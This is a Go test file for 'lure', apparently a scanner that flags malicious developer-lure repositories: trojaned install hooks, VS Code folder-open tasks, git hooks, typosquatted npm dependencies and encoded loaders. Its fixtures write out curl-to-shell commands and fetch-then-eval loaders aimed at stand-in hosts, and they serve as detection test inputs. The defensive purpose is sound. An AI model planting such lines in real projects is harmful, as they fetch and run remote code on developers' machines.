package lure

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"
)

// testIntel is a tiny intelligence list for the tests.
type testIntel struct{}

func (testIntel) Lookup(eco, name, version string) (IntelHit, bool) {
	if eco == "npm" && name == "tailwind-magic" {
		return IntelHit{Name: name, Source: "test-list", Reference: "https://example.invalid/report", Campaign: "Contagious Interview"}, true
	}
	return IntelHit{}, false
}

func (testIntel) Popular(eco string) []string {
	if eco == "npm" {
		return []string{"express", "axios", "react", "react-dom", "hardhat", "dotenv", "mongoose", "@solana/web3.js", "jsonwebtoken", "tailwindcss"}
	}
	return []string{"requests", "flask", "numpy"}
}

func (testIntel) Date() string { return "2026-12-01" }

func scanDir(t *testing.T, dir string, opts Options) *Report {
	t.Helper()
	rep, err := Scan(context.Background(), dir, opts)
	if err != nil {
		t.Fatalf("scan %s: %v", dir, err)
	}
	return rep
}

// Every defanged lure sample is found, at least suspicious without any
// name list, and its top finding sits in the file that carries the
// payload, with the developer action that runs it.
func TestLuresAreFound(t *testing.T) {
	cases := []struct {
		dir     string
		verdict Verdict
		file    string
		rule    string
		trigger Trigger
	}{
		{"beavertail-controller", Malicious, "server/controllers/userController.js", "remote-code-exec", OnInstall},
		{"function-constructor-env", Malicious, "server/routes/api/auth.js", "remote-code-exec", OnDev},
		{"renamed-imports", Malicious, "app.js", "remote-code-exec", OnStart},
		{"cross-file", Malicious, "index.js", "remote-code-exec", OnStart},
		{"sink-function-hop", Malicious, "src/main.js", "remote-code-exec", OnDev},
		{"polinrider-config", Malicious, "next.config.js", "campaign-marker", OnDev},
		{"obfuscated-route", Suspicious, "routes/index.js", "obfuscated-code", OnStart},
		{"vscode-font", Malicious, "public/fonts/fa-solid-400.woff2", "remote-code-exec", OnOpen},
		{"vscode-curl", Malicious, ".vscode/tasks.json", "pipe-to-shell", OnOpen},
		{"python-ferret", Malicious, "pyperclip/__init__.py", "encoded-code", OnStart},
		{"python-setup", Malicious, "setup.py", "remote-code-exec", OnInstall},
		{"env-exfil", Malicious, "server.js", "env-exfil", OnStart},
		{"stealer", Malicious, "test/setup.js", "stealer-paths", OnDev},
		{"error-handler", Malicious, "middlewares/errorHandler.js", "remote-code-exec", OnStart},
		{"dotenv-example", Malicious, "index.js", "remote-code-exec", OnStart},
		{"install-hook-curl", Malicious, "package.json", "pipe-to-shell", OnInstall},
		{"hex-url", Malicious, "index.js", "remote-code-exec", OnStart},
		{"error-handler-constructor", Malicious, "backend/middlewares/cookie.js", "remote-code-exec", OnDev},
		{"ts-route", Malicious, "src/routes/auth.ts", "remote-code-exec", OnDev},
		{"socket-command", Malicious, "index.js", "remote-code-exec", OnStart},
		{"hardhat-packed", Malicious, "hardhat.config.js", "packed-code", OnDev},
		{"sink-alias", Malicious, "src/index.js", "remote-code-exec", OnStart},
		{"export-promise", Malicious, "server/app.js", "remote-code-exec", OnStart},
		{"postcss-encoded-tail", Malicious, "postcss.config.mjs", "remote-code-exec", OnDev},
		{"etherhiding", Malicious, "server/config/getContract.js", "remote-code-exec", OnStart},
		{"socket-require", Malicious, "chat.js", "remote-code-exec", OnDev},
		{"koinos-cookie", Malicious, "backend/middlewares/cookie.js", "remote-code-exec", OnDev},
		{"npmrc-preload", Malicious, ".cache/init.js", "remote-code-exec", OnInstall},
		{"async-function", Malicious, "src/index.js", "remote-code-exec", OnStart},
		{"data-import", Malicious, "server.mjs", "remote-code-exec", OnDev},
		{"staged-writer", Malicious, "setup.js", "remote-code-exec", OnInstall},
		{"staged-chain", Malicious, "index.js", "remote-code-exec", OnStart},
		{"npmrc-registry", Suspicious, ".npmrc", "foreign-registry", OnInstall},
		{"exec-curl-route", Malicious, "server/index.js", "pipe-to-shell", OnStart},
		{"task-node-eval", Malicious, ".vscode/tasks.json", "remote-code-exec", OnOpen},
		{"preinstall-node-eval", Malicious, "package.json", "remote-code-exec", OnInstall},
		{"trojan-jquery", Malicious, "public/js/jquery.min.js", "remote-code-exec", OnDev},
		{"python-drop-run", Malicious, "utils/updater.py", "remote-code-exec", OnStart},
	}
	for _, c := range cases {
		t.Run(c.dir, func(t *testing.T) {
			rep := scanDir(t, filepath.Join("testdata", "lures", c.dir), Options{})
			if rep.Verdict < c.verdict {
				t.Fatalf("verdict %s, want %s; findings %+v", rep.Verdict, c.verdict, rep.Findings)
			}
			top := rep.Findings[0]
			if top.File != c.file || top.Rule != c.rule || top.Trigger != c.trigger {
				t.Errorf("top finding %s in %s (%s), want %s in %s (%s)\n%+v", top.Rule, top.File, top.Trigger, c.rule, c.file, c.trigger, top)
			}
		})
	}
}

// The benign look-alikes stay below suspicious: wallet adapters naming
// extension IDs in store links, dApps fetching JSON from a JSON-bin
// service, minified vendor bundles, well-known install hooks, templates.
func TestBenignLookAlikesStayQuiet(t *testing.T) {
	ents, err := os.ReadDir(filepath.Join("testdata", "benign"))
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range ents {
		t.Run(e.Name(), func(t *testing.T) {
			rep := scanDir(t, filepath.Join("testdata", "benign", e.Name()), Options{Intel: testIntel{}})
			if rep.Verdict >= Suspicious {
				t.Errorf("verdict %s; findings %+v", rep.Verdict, rep.Findings)
			}
		})
	}
}

func TestIntelListsMaliciousDependency(t *testing.T) {
	dir := filepath.Join("testdata", "lures", "malicious-dep")
	rep := scanDir(t, dir, Options{Intel: testIntel{}})
	if rep.Verdict != Malicious || rep.Findings[0].Rule != "known-malicious-dependency" || rep.Findings[0].File != "package.json" {
		t.Fatalf("with intel: %s %+v", rep.Verdict, rep.Findings)
	}
	if rep.IntelDate != "2026-12-01" {
		t.Errorf("intel date %q", rep.IntelDate)
	}
	if rep := scanDir(t, dir, Options{}); rep.Verdict != Clean || rep.IntelDate != "" {
		t.Errorf("without intel: %s %q", rep.Verdict, rep.IntelDate)
	}
}

func TestTyposquatAndURLDependencies(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "package.json", `{"name":"x","dependencies":{"expresss":"^4.0.0","axois":"1.0.0","react":"18.3.1","lib":"git+https://198.51.100.7/lib.git","@solanna/web3.js":"1.0.0"}}`)
	rep := scanDir(t, dir, Options{Intel: testIntel{}})
	got := map[string]bool{}
	for _, f := range rep.Findings {
		got[f.Rule+" "+strings.Fields(f.Evidence)[0]] = true
	}
	for _, want := range []string{"typosquat-dependency expresss", "typosquat-dependency axois", "typosquat-dependency @solanna/web3.js", "url-dependency lib:"} {
		if !got[want] {
			t.Errorf("missing %q in %v", want, got)
		}
	}
	if got["typosquat-dependency react"] {
		t.Error("react flagged as a typosquat of itself")
	}
}

func write(t *testing.T, dir, name, content string) {
	t.Helper()
	p := filepath.Join(dir, filepath.FromSlash(name))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// A git working tree's hooks and config are read; the .sample hooks git
// writes are not.
func TestGitHooksAndConfig(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "README.md", "# test\n")
	write(t, dir, ".git/hooks/pre-commit.sample", "curl https://x.invalid | sh\n")
	write(t, dir, ".git/hooks/post-checkout", "#!/bin/sh\ncurl -s http://203.0.113.9/p | sh\n")
	write(t, dir, ".git/config", "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = .git/fsmon.sh\n\thooksPath = .githooks\n")
	write(t, dir, ".git/objects/ab/cdef", "not read")
	write(t, dir, ".githooks/pre-push", "node tools/check.js\n")
	rep := scanDir(t, dir, Options{})
	rules := map[string]Finding{}
	for _, f := range rep.Findings {
		rules[f.Rule+" "+f.File+" "+strings.Fields(f.Evidence)[0]] = f
		if strings.Contains(f.File, ".sample") || strings.Contains(f.File, "objects") {
			t.Errorf("read %s", f.File)
		}
	}
	if _, ok := rules["pipe-to-shell .git/hooks/post-checkout curl"]; !ok {
		t.Errorf("hook not analysed: %v", rules)
	}
	if f, ok := rules["git-config-command .git/config core.fsmonitor"]; !ok || f.Severity < High || f.Trigger != OnOpen {
		t.Errorf("fsmonitor not flagged: %v", rules)
	}
	if rep.Verdict < Suspicious {
		t.Errorf("verdict %s", rep.Verdict)
	}
}

// Links in a directory are never followed: the scan cannot be used to
// read files outside the tree into a report.
func TestSymlinksNotFollowed(t *testing.T) {
	outside := t.TempDir()
	write(t, outside, "secret.js", "const u='http://198.51.100.1:1224/pdown'; fetch(u).then(r=>r.text()).then(t=>eval(t));\n")
	dir := t.TempDir()
	write(t, dir, "index.js", "console.log('hi')\n")
	if err := os.Symlink(filepath.Join(outside, "secret.js"), filepath.Join(dir, "linked.js")); err != nil {
		t.Skip("no symlinks here:", err)
	}
	if err := os.Symlink(outside, filepath.Join(dir, "linkdir")); err != nil {
		t.Fatal(err)
	}
	rep := scanDir(t, dir, Options{})
	if rep.Verdict != Clean {
		t.Errorf("followed a link: %+v", rep.Findings)
	}
}

// node_modules is not descended into: only the installed packages'
// manifests are read, for names and install scripts.
func TestNodeModulesOnlyManifests(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "package.json", `{"name":"app"}`)
	write(t, dir, "node_modules/evil/index.js", "fetch('https://x.invalid').then(r=>r.text()).then(eval)\n")
	write(t, dir, "node_modules/evil/package.json", `{"name":"evil","version":"1.0.0","scripts":{"postinstall":"curl -s https://x.invalid/i | bash"}}`)
	write(t, dir, "node_modules/tailwind-magic/package.json", `{"name":"tailwind-magic","version":"1.0.2"}`)
	rep := scanDir(t, dir, Options{Intel: testIntel{}})
	var rules []string
	for _, f := range rep.Findings {
		rules = append(rules, f.Rule+" "+f.File)
		if f.File == "node_modules/evil/index.js" {
			t.Errorf("read inside node_modules: %+v", f)
		}
	}
	joined := strings.Join(rules, "\n")
	for _, want := range []string{"pipe-to-shell node_modules/evil/package.json", "known-malicious-dependency node_modules/tailwind-magic/package.json"} {
		if !strings.Contains(joined, want) {
			t.Errorf("missing %q in\n%s", want, joined)
		}
	}
}

// The JSON report has the documented shape; evidence is defanged and
// short; findings come most severe first.
func TestJSONShape(t *testing.T) {
	rep := scanDir(t, filepath.Join("testdata", "lures", "vscode-font"), Options{Intel: testIntel{}})
	var buf bytes.Buffer
	if err := rep.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	var m map[string]json.RawMessage
	if err := json.Unmarshal(buf.Bytes(), &m); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"verdict", "findings", "surface", "intel_date"} {
		if _, ok := m[k]; !ok {
			t.Errorf("no %q in %s", k, buf.String())
		}
	}
	var back struct {
		Verdict  string
		Findings []map[string]any
		Surface  struct{ Entries []map[string]any }
	}
	if err := json.Unmarshal(buf.Bytes(), &back); err != nil {
		t.Fatal(err)
	}
	if back.Verdict != "malicious" {
		t.Errorf("verdict %q", back.Verdict)
	}
	order := map[string]int{"critical": 4, "high": 3, "medium": 2, "low": 1, "info": 0}
	prev := 5
	for _, f := range back.Findings {
		for _, k := range []string{"rule", "severity", "file", "trigger", "evidence", "advice"} {
			if _, ok := f[k]; !ok {
				t.Errorf("finding without %q: %v", k, f)
			}
		}
		ev := f["evidence"].(string)
		if utf8.RuneCountInString(ev) > 200 {
			t.Errorf("evidence of %d characters", utf8.RuneCountInString(ev))
		}
		if strings.Contains(ev, "http://") || strings.Contains(ev, "https://") || strings.Contains(ev, "203.0.113.7") {
			t.Errorf("evidence not defanged: %s", ev)
		}
		s := order[f["severity"].(string)]
		if s > prev {
			t.Errorf("findings out of order at %v", f)
		}
		prev = s
	}
	if len(back.Surface.Entries) == 0 || back.Surface.Entries[0]["trigger"] != "on-open" {
		t.Errorf("surface %v", back.Surface.Entries)
	}
}

func TestSARIFShape(t *testing.T) {
	rep := scanDir(t, filepath.Join("testdata", "lures", "renamed-imports"), Options{})
	var buf bytes.Buffer
	if err := rep.WriteSARIF(&buf, "test"); err != nil {
		t.Fatal(err)
	}
	var log struct {
		Version string `json:"version"`
		Runs    []struct {
			Tool struct {
				Driver struct {
					Name  string `json:"name"`
					Rules []struct {
						ID string `json:"id"`
					} `json:"rules"`
				} `json:"driver"`
			} `json:"tool"`
			Results []struct {
				RuleID    string `json:"ruleId"`
				Level     string `json:"level"`
				Locations []struct {
					PhysicalLocation struct {
						ArtifactLocation struct {
							URI string `json:"uri"`
						} `json:"artifactLocation"`
						Region struct {
							StartLine int `json:"startLine"`
						} `json:"region"`
					} `json:"physicalLocation"`
				} `json:"locations"`
			} `json:"results"`
		} `json:"runs"`
	}
	if err := json.Unmarshal(buf.Bytes(), &log); err != nil {
		t.Fatal(err)
	}
	if log.Version != "2.1.0" || len(log.Runs) != 1 || len(log.Runs[0].Results) == 0 {
		t.Fatalf("bad SARIF: %s", buf.String())
	}
	r := log.Runs[0].Results[0]
	if r.RuleID != "remote-code-exec" || r.Level != "error" || r.Locations[0].PhysicalLocation.ArtifactLocation.URI != "app.js" || r.Locations[0].PhysicalLocation.Region.StartLine != 4 {
		t.Errorf("first result %+v", r)
	}
	if len(log.Runs[0].Tool.Driver.Rules) == 0 {
		t.Error("no rules")
	}
}

func TestDefang(t *testing.T) {
	for in, want := range map[string]string{
		"https://api.npoint.io/abc":      "hxxps://api[.]npoint[.]io/abc",
		"http://203.0.113.7:1224/pdown":  "hxxp://203[.]0[.]113[.]7:1224/pdown",
		"ip 198.51.100.5 port":           "ip 198[.]51[.]100[.]5 port",
		"see jsonkeeper.com for details": "see jsonkeeper[.]com for details",
	} {
		if got := defang(in); got != want {
			t.Errorf("defang(%q) = %q, want %q", in, got, want)
		}
	}
	long := strings.Repeat("a", 500)
	if n := utf8.RuneCountInString(evidence(long)); n > 200 {
		t.Errorf("evidence of %d", n)
	}
}

// Odd Python (an import list with an empty name, as gyp's pylib has)
// does not crash the scan.
func TestPythonImportEdgeCases(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, "pylib/gyp/__init__.py", "from . import (\n    common,\n)\nfrom .common import ( )\nfrom x import a, , b\nimport os,\n")
	rep := scanDir(t, dir, Options{})
	for _, f := range rep.Findings {
		if f.Rule == "analysis-error" {
			t.Errorf("analysis failed: %+v", f)
		}
	}
}

// A folder-open task that runs an executable shipped in the project is
// a lure; the executable alone is only worth a review.
func TestTaskRunsShippedBinary(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, ".vscode/tasks.json", `{"tasks":[{"label":"setup","command":"./tools/setup.exe","runOptions":{"runOn":"folderOpen"}}]}`)
	write(t, dir, "tools/setup.exe", "MZ"+strings.Repeat("\x00", 58)+"\x40\x00\x00\x00PE\x00\x00"+strings.Repeat("\x00", 64))
	rep := scanDir(t, dir, Options{})
	if rep.Verdict != Malicious || rep.Findings[0].Rule != "runs-binary" || rep.Findings[0].Trigger != OnOpen {
		t.Errorf("%s %+v", rep.Verdict, rep.Findings)
	}
	if err := os.Remove(filepath.Join(dir, ".vscode", "tasks.json")); err != nil {
		t.Fatal(err)
	}
	if rep := scanDir(t, dir, Options{}); rep.Verdict != Review {
		t.Errorf("binary alone: %s %+v", rep.Verdict, rep.Findings)
	}
}

// Commands in YAML (CI workflows, compose files) are read, at review
// level: they do not run on the developer's machine.
func TestYAMLCommands(t *testing.T) {
	dir := t.TempDir()
	write(t, dir, ".github/workflows/ci.yml", "on: push\njobs:\n  b:\n    steps:\n      - run: curl -s https://get.example.invalid/install.sh | bash\n")
	rep := scanDir(t, dir, Options{})
	if rep.Verdict != Review || rep.Findings[0].Rule != "pipe-to-shell" || rep.Findings[0].Line != 5 {
		t.Errorf("%s %+v", rep.Verdict, rep.Findings)
	}
}
